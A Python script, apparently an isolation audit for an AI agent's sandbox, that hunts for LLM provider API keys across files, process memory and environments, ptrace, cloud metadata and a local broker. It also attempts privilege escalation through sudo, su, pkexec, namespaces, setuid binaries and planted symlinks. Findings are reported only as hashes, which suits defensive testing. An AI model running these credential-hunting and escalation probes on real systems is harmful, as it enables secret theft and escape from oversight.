"""Looks for API keys wherever the user that runs it can get: the attacker's side of the key hunt.

Prints a JSON list of {"place", "sha256"}: what was found is told by its hash, since this may run in a
conversation. It does not know the key: it looks for what keys look like, plain, in base64 and in hex.
"""
import base64
import ctypes
import glob
import hashlib
import json
import os
import re
import socket
import stat
import subprocess
import sys

# Put together here, so that this text is no finding.
PREFIXES = [b"sk-" + rest for rest in (b"ant-api03-", b"or-v1-", b"proj-")]
KEY = re.compile(b"(?:" + b"|".join(PREFIXES) + b")[A-Za-z0-9_-]{60,}")
# Two of the three alignments begin inside a character of the prefix; what surely stays is looked for.
BASE64 = [
    base64.b64encode(b" " * shift + prefix)[(4 if shift else 0) : -4]
    for prefix in PREFIXES
    for shift in range(3)
]
HEX = [prefix.hex().encode() for prefix in PREFIXES]
OTHER = re.compile(b"|".join(re.escape(form) for form in BASE64 + HEX) + b"")
LARGEST = 64 * 2**20
SKIPPED = ("/proc", "/sys", "/opt/node", "/opt/openclaw", "/usr/lib", "/usr/share")

found = []
tried = set()


def look(place, content):
    tried.add(place.split(" ")[0])
    for match in set(KEY.findall(content)):
        found.append({"place": place, "sha256": hashlib.sha256(match).hexdigest()})
    # An encoded key goes on for long; the prefix alone is in programs that know what keys look like.
    for match in OTHER.finditer(content):
        tail = content[match.end() : match.end() + 60]
        if re.fullmatch(rb"[A-Za-z0-9+/=_-]{60}", tail):
            keys = KEY.findall(decode(content[match.start() : match.start() + 400]))
            found.append({"place": place, "sha256": hashlib.sha256(keys[0]).hexdigest() if keys else None})


def decode(text):
    run = re.match(rb"[A-Za-z0-9+/]*", text).group()
    whole = run if len(run) % 4 != 1 else run[:-1]
    return base64.b64decode(whole + b"=" * (-len(whole) % 4))


def read(path, limit=LARGEST):
    try:
        # Never a pipe or a device: reading a pipe of the gateway's would take it something away.
        if not stat.S_ISREG(os.stat(path).st_mode):
            return b""
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


def run(name, *command, timeout=20, **options):
    try:
        done = subprocess.run(
            command, capture_output=True, timeout=timeout, stdin=subprocess.DEVNULL, check=False, **options
        )
        look(f"run {name}", done.stdout + done.stderr)
    except (OSError, subprocess.TimeoutExpired):
        tried.add("run")


def files():
    for top in ["/"]:
        for root, folders, names in os.walk(top):
            folders[:] = [f for f in folders if os.path.join(root, f) not in SKIPPED]
            for name in names:
                path = os.path.join(root, name)
                if not os.path.islink(path):
                    look(f"file {path}", read(path))
    for path in glob.glob("/opt/openclaw/*") + glob.glob("/usr/share/desk*"):
        look(f"file {path}", read(path))


def processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        for name in ("environ", "cmdline", "comm", "stat", "maps", "auxv"):
            look(f"process {pid}/{name}", read(f"/proc/{pid}/{name}"))
        for link in glob.glob(f"/proc/{pid}/fd/*"):
            look(f"process {link}", read(link))
        for inside in ("etc/desk/secrets/*", "run/desk/secrets/*", "run/credentials/*/*"):
            for path in glob.glob(f"/proc/{pid}/root/{inside}"):
                look(f"process {path}", read(path))
        look(f"process {pid}/mem", memory(pid))


def memory(pid):
    parts = []
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, mode, *_ = line.split()
                start, end = (int(x, 16) for x in span.split("-"))
                if not mode.startswith("rw") or end - start > LARGEST:
                    continue
                try:
                    mem.seek(start)
                    parts.append(b"".join(KEY.findall(mem.read(end - start))))
                except OSError:
                    pass
    except OSError:
        pass
    return b"\n".join(parts)


def trace():
    libc = ctypes.CDLL(None, use_errno=True)
    attach, detach = 16, 17
    for path in glob.glob("/proc/[0-9]*/comm"):
        if b"nginx" not in read(path):
            continue
        pid = int(path.split("/")[2])
        tried.add("ptrace")
        if libc.ptrace(attach, pid, None, None) == 0:
            os.waitpid(pid, 0)
            look(f"ptrace {pid}", memory(pid))
            libc.ptrace(detach, pid, None, None)
        try:
            os.kill(pid, 0)
            found.append({"place": f"signal {pid}", "sha256": None})
        except OSError:
            pass


def metadata():
    addresses = ["169.254.169.254", "0xa9fea9fe", "2852039166", "[::ffff:169.254.169.254]"]
    addresses += [f"[fe80::a9fe:a9fe%25{name}]" for _, name in socket.if_nameindex() if name != "lo"]
    for address in addresses:
        for path in ("userdata", "metadata"):
            url = f"http://{address}/hetzner/v1/{path}"
            try:
                answer = subprocess.run(
                    ["curl", "-sS", "-g", "-m", "5", url], capture_output=True, check=False
                )
                look(f"metadata {url}", unpack(answer.stdout))
                if answer.returncode == 0 and b"hostname" in answer.stdout:
                    found.append({"place": f"metadata {url}", "sha256": None})
            except OSError:
                pass


def unpack(body):
    """User data is packed twice."""
    import binascii
    import gzip

    try:
        return body + gzip.decompress(base64.b64decode(body, validate=True))
    except (binascii.Error, OSError, EOFError):
        return body


def broker():
    base = "http://127.0.0.1:18900"
    for method in ("GET", "TRACE", "OPTIONS", "CONNECT"):
        for path in ("/", "/healthz", "/llm/", "/llm/v1/models", "/llm/v1/../../", "/llm/v1/%2e%2e/files"):
            run(f"broker {method} {path}", "curl", "-sS", "-i", "-m", "10", "-X", method, "--path-as-is", base + path)
    run("broker checks", "curl", "-sS", "-i", "-m", "10", "http://127.0.0.1:18901/llm")


def programs():
    run("env", "env")
    run("nginx", "nginx", "-T", "-c", "/etc/desk/broker/nginx.conf")
    run("journal", "journalctl", "--no-pager", "-o", "export")
    run("dmesg", "dmesg")
    run("cores", "sh", "-c", "coredumpctl dump; cat /var/lib/systemd/coredump/* /var/crash/* core*")
    for query in ("userdata", "vendordata", "ds", "-a"):
        run(f"cloud-init {query}", "cloud-init", "query", query)
    for unit in ("desk-broker", "desk-agent", "desk-prepare", "cloud-final"):
        run(f"unit {unit}", "systemctl", "show", unit)
        run(f"unit {unit}", "systemctl", "cat", unit)
    run("bus", "busctl", "--system", "introspect", "org.freedesktop.systemd1", "/org/freedesktop/systemd1")
    run("credentials", "systemd-creds", "--system", "cat", "keys.conf")
    secrets = "cat /etc/desk/secrets/* /run/desk/secrets/* /run/credentials/*/*"
    run("sudo", "sudo", "-n", "sh", "-c", secrets)
    run("sudo status", "sudo", "-n", "/usr/local/sbin/desk-status")
    run("su", "su", "root", "-c", secrets)
    run("systemd-run", "systemd-run", "--pipe", "--no-ask-password", "sh", "-c", secrets)
    run("pkexec", "pkexec", "sh", "-c", secrets)
    for device in glob.glob("/dev/loop*") + glob.glob("/dev/[sv]d*") + ["/dev/mem", "/proc/kcore", "/dev/port"]:
        run(f"device {device}", "head", "-c", "67108864", device)
    # Root of its own making is not root of what lies outside.
    for flags in (["-Ur"], ["-Urm"], ["-Urpf", "--mount-proc"], ["-Urn"]):
        run(f"namespace {flags}", "unshare", *flags, "sh", "-c", secrets)
        url = "http://169.254.169.254/hetzner/v1/userdata"
        run(f"namespace {flags} metadata", "unshare", *flags, "sh", "-c", f"curl -sS -m 3 {url} | base64 -d | zcat")
    mount = "mount -t tmpfs none /mnt && cp -a /run/credentials/. /mnt; cat /mnt/*/*; mount --bind / /mnt && cat /mnt/etc/desk/secrets/*"
    run("namespace mount", "unshare", "-Urm", "sh", "-c", mount)


def setuid_programs():
    done = subprocess.run(
        ["find", "/", "-xdev", "-perm", "/6000", "-type", "f"], capture_output=True, text=True, check=False
    )
    for path in done.stdout.split():
        for arguments in (["--help"], ["-c", "cat /etc/desk/secrets/provider-key"], ["/etc/desk/secrets/provider-key"]):
            run(f"setuid {path}", path, *arguments, timeout=5)


def links():
    """Where root writes or reads on the data volume, a link shall not lead it elsewhere."""
    for folder in ("/srv/desk", "/srv/desk/home", "/srv/desk/logs", "/srv/desk/cache", "/srv/desk/state"):
        for target in ("/etc/desk/secrets", "/run/desk/secrets", "/run/credentials/desk-broker.service"):
            tried.add("link")
            name = os.path.join(folder, "planted-" + os.path.basename(target))
            try:
                if not os.path.islink(name):
                    os.symlink(target, name)
                for path in glob.glob(name + "/*"):
                    look(f"link {path}", read(path))
            except OSError:
                pass


for probe in (files, processes, trace, metadata, broker, programs, setuid_programs, links):
    probe()
unique = {(f["place"], f["sha256"]) for f in found}
print(json.dumps({"found": sorted([list(f) for f in unique], key=str), "probes": sorted(tried)}))
